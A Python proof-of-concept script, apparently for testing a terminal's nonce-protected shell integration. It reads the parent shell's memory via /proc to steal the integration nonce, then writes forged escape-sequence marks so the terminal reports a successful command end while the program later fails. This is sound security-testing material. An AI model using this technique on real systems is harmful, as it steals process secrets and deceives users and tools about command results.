#!/usr/bin/env python3
"""A program that forges its own end in a terminal with shell integration.

Run as a command of the shell (its parent). It learns the shell's nonce by reading the
shell's memory (/proc/PPID/mem, allowed for the same user where Yama's ptrace_scope is 0
or absent): it looks for 32 hex digits whose SHA-256 is the one given, or with `-` tries
every run of 32 hex digits it finds (a mark with a wrong nonce is plain output). Where
the memory cannot be read, it takes the nonce from the file given instead, as if it had
leaked some other way. It then hands the terminal to the shell's process group (tcsetpgrp), prints an
end (status 0), a prompt and a start mark, takes the terminal back half a second later, and goes on: it
sleeps, then fails with status 1.

Usage: forge_end.py SHA256_HEX|- NONCE_FILE SECONDS
"""
import hashlib
import os
import re
import signal
import sys
import time


def nonces_from_memory(pid, digest):
    found = []
    hexes = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if "rw" not in fields[1]:
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for candidate in hexes.findall(data):
                if digest in ("-", hashlib.sha256(candidate).hexdigest()):
                    found.append(candidate.decode())
    return list(dict.fromkeys(found))


def main():
    digest, nonce_file, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    shell = os.getppid()
    try:
        nonces, way = nonces_from_memory(shell, digest), "memory"
    except OSError:
        nonces = []
    if not nonces:
        with open(nonce_file) as file:
            nonces, way = [file.read().strip()], "file"
    sys.stderr.write(f"forger: {len(nonces)} nonce(s) from {way}\n")
    mark = lambda payload: b"".join(
        f"\x1b]5379;{nonce};{payload}\x07".encode() for nonce in nonces
    )
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    tty = os.open("/dev/tty", os.O_RDWR)
    own = os.tcgetpgrp(tty)
    os.tcsetpgrp(tty, os.getpgid(shell))
    os.write(tty, mark("D;0") + mark("P;/forged") + mark("A") + b"$ ")
    os.write(tty, mark("B;forged") + mark("C"))
    time.sleep(0.5)  # long enough for the marks to be read while the shell's group has it
    os.tcsetpgrp(tty, own)
    os.write(tty, b"marks sent\r\n")
    time.sleep(seconds)
    sys.exit(1)


main()
